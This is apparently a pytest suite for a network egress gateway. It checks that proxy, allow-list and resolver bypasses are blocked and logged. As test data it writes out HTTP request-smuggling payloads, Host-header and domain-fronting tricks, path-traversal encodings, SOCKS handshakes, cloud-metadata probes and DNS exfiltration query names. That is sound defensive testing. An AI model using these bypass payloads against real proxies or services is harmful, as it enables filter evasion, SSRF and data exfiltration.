"""Known ways around an HTTP proxy, an allow list and a resolver: the target receives nothing, the step is charged."""

from __future__ import annotations

import asyncio
import importlib.util
import os
import sys
from pathlib import Path

import pytest

from vallum.gateway.kit import Kit
from vallum.rules.grants import Budget, Rule, Ruleset

pytestmark = pytest.mark.root
if os.geteuid() != 0:
    pytest.skip("needs root: network namespaces", allow_module_level=True)


def _load(name: str, file: str):
    path = Path(__file__).parents[1] / "integration" / file
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


world_module = _load("bypasses_world_priv", "gateway_world_priv.py")
World, run_in_world = world_module.World, world_module.run_in_world

MIRROR, POOL, INSIDE, METADATA = "192.0.2.20", "203.0.113.10", "10.77.0.5", "169.254.169.254"
REPLY = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"
KIT = Kit(verify_upstream=False)
GETS = Rule(id="gets", host="mirror.test", ports=(80,), methods=("GET", "HEAD"))
WHOLE = Rule(id="whole", host="mirror.test", ports=(80,))
FINE = b"GET / HTTP/1.1\r\nHost: mirror.test\r\nConnection: close\r\n\r\n"
SECRET = b"EVIL"
"""What must reach nobody."""


def request(line: bytes, *headers: bytes, host: bytes = b"mirror.test", body: bytes = b"") -> bytes:
    head = [line + b" HTTP/1.1", *([b"Host: " + host] if host else []), b"Connection: close", *headers]
    return b"\r\n".join(head) + b"\r\n\r\n" + body


UPGRADE = (b"Upgrade: websocket", b"Sec-WebSocket-Version: 13", b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
BYPASSES = {
    "connect to another host": request(b"CONNECT pool.test:80", host=b"pool.test:80", body=SECRET),
    "connect to the granted host": request(b"CONNECT mirror.test:22", host=b"mirror.test:22", body=SECRET),
    "absolute form, another host": request(b"GET http://pool.test/EVIL", host=b"mirror.test"),
    "absolute form, both another": request(b"GET http://pool.test/EVIL", host=b"pool.test"),
    "another Host (domain fronting)": request(b"GET /EVIL", host=b"pool.test"),
    "no Host": request(b"GET /EVIL", host=b""),
    "two Hosts": request(b"GET /EVIL", b"Host: pool.test"),
    "an address as Host": request(b"GET /EVIL", host=b"203.0.113.10"),
    "user before the host": request(b"GET /EVIL", host=b"mirror.test@pool.test"),
    "NUL in Host": request(b"GET /EVIL", host=b"mirror.test\x00.pool.test"),
    "POST": request(b"POST /EVIL", b"Content-Length: 4", body=SECRET),
    "method of one's own": request(b"EVIL /"),
    "lower-case method": request(b"get /EVIL"),
    "websocket": request(b"GET /EVIL", *UPGRADE).replace(b"Connection: close", b"Connection: Upgrade"),
    "length and chunks (CL.TE)": request(
        b"GET /EVIL", b"Content-Length: 4", b"Transfer-Encoding: chunked", body=b"0\r\n\r\nGET http://pool.test/"
    ),
    "two lengths": request(b"GET /EVIL", b"Content-Length: 4", b"Content-Length: 0", body=SECRET),
    "length with a sign": request(b"GET /EVIL", b"Content-Length: +4", body=SECRET),
    "hidden chunks (TE.TE)": request(b"GET /EVIL", b"Transfer-Encoding: xchunked", body=b"4\r\nEVIL\r\n0\r\n\r\n"),
    "space before the colon": request(b"GET /EVIL", b"Transfer-Encoding : chunked", body=b"0\r\n\r\n"),
    "folded line": request(b"GET /EVIL", b"X-A: b\r\n Host: pool.test"),
    "bare line feed": request(b"GET /EVIL", b"X-A: b\nHost: pool.test"),
    "path above the root": request(b"GET /../../EVIL"),
    "path encoded twice": request(b"GET /%252e%252e/EVIL"),
    "SOCKS 5": b"\x05\x01\x00" + SECRET,
    "SOCKS 5 with a null byte in the name": b"\x05\x01\x00\x05\x01\x00\x03\x16pool.test\x00.mirror.test\x00\x50",
    "SOCKS 4a": b"\x04\x01\x00\x50\x00\x00\x00\x01\x00pool.test\x00",
    "raw bytes": b"EVIL" * 20,
    "SSH": b"SSH-2.0-EVIL\r\n",
}


@pytest.mark.parametrize("grant", [GETS, WHOLE], ids=lambda rule: rule.id)
def test_nothing_gets_around_a_grant_of_http(tmp_path: Path, grant: Rule) -> None:
    """Every attack in one world, each on a connection of its own, and the allowed request after each."""
    about_requests = {"POST", "method of one's own", "lower-case method", "websocket", "an address as Host"}
    path_only = {"path above the root", "path encoded twice"}

    async def scenario(world: World) -> None:
        async with (
            world.tap(MIRROR, 80, reply=REPLY) as mirror,
            world.tap(POOL, 80, reply=REPLY) as pool,
        ):
            await world.ask("mirror.test")
            for name, raw in BYPASSES.items():
                if grant is WHOLE and name in about_requests | path_only:
                    continue  # a grant of the whole host is one of these, too
                before, seen = len(world.events), len(mirror.received)
                await world.say(MIRROR, 80, raw, wait_s=0.7)
                assert SECRET not in bytes(mirror.received[seen:]), name
                assert pool.connections == 0, name
                denied = []
                for _ in range(100):
                    denied = [e for e in world.events[before:] if getattr(e, "verdict", "") == "deny"]
                    if denied:
                        break
                    await asyncio.sleep(0.01)
                assert denied, f"{name}: nothing was recorded"
                assert all(e.scope.step == 3 and e.rule and e.reason for e in denied), name
                assert b"hello" in await world.say(MIRROR, 80, FINE, wait_s=0.4), f"after {name}"

    run_in_world(tmp_path, Ruleset(allow=(grant,)), scenario, kit=KIT, timeout_s=150)


def test_what_is_stripped_on_the_way(tmp_path: Path) -> None:
    """An upgrade to HTTP/2, another method than the one judged, and headers for proxies do not reach the server."""

    async def scenario(world: World) -> None:
        async with world.tap(MIRROR, 80, reply=REPLY) as mirror:
            await world.ask("mirror.test")
            raw = request(b"GET /", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk", b"Proxy-Authorization: Basic eA==")
            raw = raw.replace(
                b"Connection: close", b"Connection: Upgrade, HTTP2-Settings\r\nX-HTTP-Method-Override: DELETE"
            )
            await world.say(MIRROR, 80, raw, wait_s=1.0)
            received = bytes(mirror.received).lower()
            assert b"h2c" not in received and b"http2-settings" not in received
            assert b"proxy-authorization" not in received and b"override" not in received
            assert b"hello" in await world.say(MIRROR, 80, FINE)

    run_in_world(tmp_path, Ruleset(allow=(GETS,)), scenario, kit=KIT)


def test_a_second_request_for_another_host(tmp_path: Path) -> None:
    async def scenario(world: World) -> None:
        async with world.tap(MIRROR, 80, reply=REPLY) as mirror, world.tap(POOL, 80, reply=REPLY) as pool:
            await world.ask("mirror.test")
            first = FINE.replace(b"Connection: close\r\n", b"")
            await world.say(MIRROR, 80, first + request(b"GET /EVIL", host=b"pool.test"), wait_s=1.5)
            assert b"GET / " in mirror.received and SECRET not in mirror.received
            assert pool.connections == 0
            denied = [e for e in await world.settled(3, "http.request") if e.verdict == "deny"]
            assert [e.rule for e in denied] == ["host-mismatch"] and denied[0].scope.step == 3

    run_in_world(tmp_path, Ruleset(allow=(GETS,)), scenario, kit=KIT)


def test_a_redirect_opens_nothing(tmp_path: Path) -> None:
    async def scenario(world: World) -> None:
        moved = b"HTTP/1.1 302 Found\r\nLocation: http://203.0.113.10/EVIL\r\nContent-Length: 0\r\n\r\n"
        async with world.tap(MIRROR, 80, reply=moved), world.tap(POOL, 80, reply=REPLY) as pool:
            await world.ask("mirror.test")
            assert b"302" in await world.say(MIRROR, 80, FINE)
            assert b"403" in await world.say(POOL, 80, request(b"GET /EVIL", host=b"203.0.113.10"))
            assert pool.connections == 0
            denied = [e for e in await world.settled(3) if e.state == "denied"]
            assert denied[0].rule == "default-deny" and denied[0].scope.step == 3

    run_in_world(tmp_path, Ruleset(allow=(GETS,)), scenario, kit=KIT)


def test_volume_in_paths_meets_the_budget(tmp_path: Path) -> None:
    """A grant to read only still carries bytes out in paths: so many requests a minute, and no more."""

    async def scenario(world: World) -> None:
        async with world.tap(MIRROR, 80, reply=REPLY) as mirror:
            await world.ask("mirror.test")
            answers = [await world.say(MIRROR, 80, request(b"GET /%d" % n), wait_s=1.5) for n in range(6)]
            assert [b"hello" in one for one in answers] == [True] * 3 + [False] * 3
            assert mirror.received.count(b"GET /") == 3
            denied = [e for e in await world.settled(9, "http.request") if e.verdict == "deny"]
            assert {e.rule for e in denied} == {"budget"}

    rule = Rule(id="few", host="mirror.test", ports=(80,), methods=("GET",), budget=Budget(requests_per_minute=3))
    run_in_world(tmp_path, Ruleset(allow=(rule,)), scenario, kit=KIT)


@pytest.mark.parametrize("allow", [(), (GETS,)], ids=["empty list", "one grant"])
def test_addresses_and_ports_that_nobody_granted(tmp_path: Path, allow: tuple[Rule, ...]) -> None:
    """DoH, DoT, metadata, the inside, IPv6: by address, without asking for a name. An empty list grants nothing."""

    async def scenario(world: World) -> None:
        places = [(POOL, 443), (POOL, 853), (METADATA, 80), ("fd00:ec2::254", 80), (INSIDE, 22), ("2001:db8::20", 443)]
        async with (
            world.tap(METADATA, 80, reply=REPLY) as meta,
            world.tap(INSIDE, 22, banner=b"SSH-2.0-x\r\n") as inside,
        ):
            for ip, port in places:
                await world.say(ip, port, request(b"GET /EVIL"), wait_s=1.0)
            assert meta.connections == inside.connections == 0
            denied = await world.settled(len(places))
            assert all((e.state, e.scope.step, e.bytes_out) == ("denied", 3, 0) for e in denied)
            assert {e.dst_ip: e.rule for e in denied}[METADATA] == "metadata"
            assert "default-deny" in {e.rule for e in denied}

    run_in_world(tmp_path, Ruleset(allow=allow), scenario, kit=KIT)


@pytest.mark.parametrize("kind", ["A", "TXT", "NULL", "CNAME", "MX", "AAAA", "SRV"])
def test_queries_carry_nothing_out(tmp_path: Path, kind: str) -> None:
    async def scenario(world: World) -> None:
        names = ["c2VjcmV0.exfil.test", "a.b.c.d.mirror.test", "169.254.169.254.nip.test", "meta.test"]
        for name in names:
            for tcp in (False, True):
                await world.ask(name, kind, tcp=tcp)
        assert world.queries == [], "nobody outside was asked"
        denied = [e for e in await world.settled(2 * len(names), "dns.query") if e.verdict == "deny"]
        assert len(denied) == 2 * len(names)
        assert all(e.scope.step == 3 and e.rule for e in denied)
        granted = await world.ask("mirror.test", "A")
        assert granted.answer

    run_in_world(tmp_path, Ruleset(allow=(GETS,)), scenario, kit=KIT)
